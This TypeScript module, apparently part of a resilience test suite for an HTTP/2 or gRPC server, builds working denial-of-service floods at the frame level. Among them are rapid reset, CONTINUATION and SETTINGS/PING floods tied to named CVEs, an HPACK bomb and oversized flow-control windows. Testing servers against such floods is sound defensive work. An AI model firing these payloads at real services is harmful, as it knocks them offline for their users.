import { CHANNEL_ATTACKS } from './channel-attacks.ts';
import {
  type Attack,
  callHeaders,
  END_HEADERS,
  END_STREAM,
  FRAME,
  flood,
  frame,
  hpackNumber,
  hpackText,
  INITIAL_WINDOW_SIZE,
  literal,
  many,
  type Run,
  sendOnce,
  settings,
  uint32,
} from './raw-http2.ts';

const CANCEL = uint32(8);
/** Frames that go out with one write. */
const BATCH = 256;
/** SETTINGS identifier (RFC 9113 section 6.5.2). */
const HEADER_TABLE_SIZE = 1;

/** Ids of the streams of one turn: odd, rising. */
const streamsOf = (turn: number): number[] => many(BATCH, (n) => 2 * (turn * BATCH + n) + 1);
const opening = (stream: number): Buffer =>
  frame(FRAME.headers, { flags: END_HEADERS, stream }, callHeaders('Invite'));
/** A call with a message of no bytes. */
const whole = (stream: number): Buffer =>
  Buffer.concat([
    opening(stream),
    frame(FRAME.data, { flags: END_STREAM, stream }, Buffer.alloc(5)),
  ]);
const reset = (stream: number): Buffer => frame(FRAME.rstStream, { stream }, CANCEL);
/** A stream that begins in the first turn, and in each further one so many frames on it. */
const onStream = (begin: Buffer, more: Buffer) => (turn: number) =>
  turn === 0 ? [begin] : many(BATCH, () => more);
const pings = () => many(BATCH, () => frame(FRAME.ping, {}, Buffer.alloc(8)));

const FLOODS: Readonly<Record<string, Run>> = {
  'rapid reset (CVE-2023-44487)': flood((turn) =>
    streamsOf(turn).flatMap((stream) => [opening(stream), reset(stream)]),
  ),
  'rapid reset of whole calls': flood((turn) =>
    streamsOf(turn).flatMap((stream) => [whole(stream), reset(stream)]),
  ),
  'whole calls, one after the other': flood((turn) => streamsOf(turn).map(whole)),
  'more streams at once than are allowed': flood((turn) => streamsOf(turn).map(opening)),
  'CONTINUATION without end (CVE-2024-27983)': flood(
    onStream(
      frame(FRAME.headers, { stream: 1 }, callHeaders('Invite')),
      frame(FRAME.continuation, { stream: 1 }, literal('x', 'y')),
    ),
  ),
  'empty CONTINUATION without end': flood(
    onStream(
      frame(FRAME.headers, { stream: 1 }, callHeaders('Invite')),
      frame(FRAME.continuation, { stream: 1 }),
    ),
  ),
  'a header list of 20 KiB': sendOnce(() => {
    const long = Buffer.concat([callHeaders('Invite'), literal('x-long', 'a'.repeat(20 * 1024))]);
    return [
      frame(FRAME.headers, { stream: 1 }, long.subarray(0, 16_384)),
      frame(FRAME.continuation, { flags: END_HEADERS, stream: 1 }, long.subarray(16_384)),
    ];
  }),
  'SETTINGS flood (CVE-2019-9515)': flood(() => many(BATCH, () => settings({}))),
  'SETTINGS flood that changes the header table': flood((turn) =>
    many(BATCH, (n) => settings({ [HEADER_TABLE_SIZE]: (turn * BATCH + n) % 65_536 })),
  ),
  'PING flood (CVE-2019-9512)': flood(pings),
  'PING flood whose answers nobody reads': async (peer, isEnough) => {
    peer.stopReading();
    await flood(pings)(peer, isEnough);
  },
  'PRIORITY flood': flood(() =>
    many(BATCH, () => frame(FRAME.priority, { stream: 1 }, Buffer.of(0, 0, 0, 3, 16))),
  ),
  'WINDOW_UPDATE flood': flood(() => many(BATCH, () => frame(FRAME.windowUpdate, {}, uint32(1)))),
  'frames of an unknown type': flood(() => many(BATCH, () => frame(0xbe, {}, Buffer.alloc(16)))),
  'empty DATA without end (CVE-2019-9518)': flood(
    onStream(opening(1), frame(FRAME.data, { stream: 1 })),
  ),
  'trailers without end': flood(
    onStream(
      opening(1),
      frame(FRAME.headers, { flags: END_HEADERS, stream: 1 }, literal('x', 'y')),
    ),
  ),
  'HPACK bomb: one long entry, referred to without end': flood((turn) => {
    // Entry 62 is the newest of the dynamic table: one byte for 4 kB of header.
    const entry = Buffer.concat([Buffer.of(0x40), hpackText('x'), hpackText('a'.repeat(4000))]);
    return many(16, (n) => {
      const isFirst = turn === 0 && n === 0;
      const references = Buffer.alloc(8000, 0x80 | 62);
      const block = [callHeaders('Invite'), ...(isFirst ? [entry] : []), references];
      const stream = 2 * (turn * 16 + n) + 1;
      return frame(FRAME.headers, { flags: END_HEADERS, stream }, Buffer.concat(block));
    });
  }),
  'HPACK table sizes without end': flood((turn) => {
    const sizes = many(4000, (n) => tableSize(n % 4096));
    const stream = 2 * turn + 1;
    return [frame(FRAME.headers, { flags: END_HEADERS, stream }, Buffer.concat(sizes))];
  }),
  'a window beyond 2^31 - 1': sendOnce(() => [
    opening(1),
    frame(FRAME.windowUpdate, { stream: 1 }, uint32(0x7fff_ffff)),
    frame(FRAME.windowUpdate, {}, uint32(0x7fff_ffff)),
  ]),
  'a first window beyond 2^31 - 1': sendOnce(() => [
    settings({ [INITIAL_WINDOW_SIZE]: 0x8000_0000 }),
  ]),
  'a window of zero, and calls whose answers find no room': flood(
    (turn) => streamsOf(turn).map(whole),
    { [INITIAL_WINDOW_SIZE]: 0 },
  ),
};

/** Every way that is known here, by what it is called. */
export const ATTACKS: Readonly<Record<string, Attack>> = {
  ...Object.fromEntries(
    Object.entries(FLOODS).map(([name, run]) => [name, { run, comesTo: 'an end' as const }]),
  ),
  ...CHANNEL_ATTACKS,
};

/** HPACK's "dynamic table size update" (RFC 7541 section 6.3). */
function tableSize(bytes: number): Buffer {
  const number = hpackNumber(bytes, 5);
  number.writeUInt8(0x20 | number.readUInt8(0));
  return number;
}
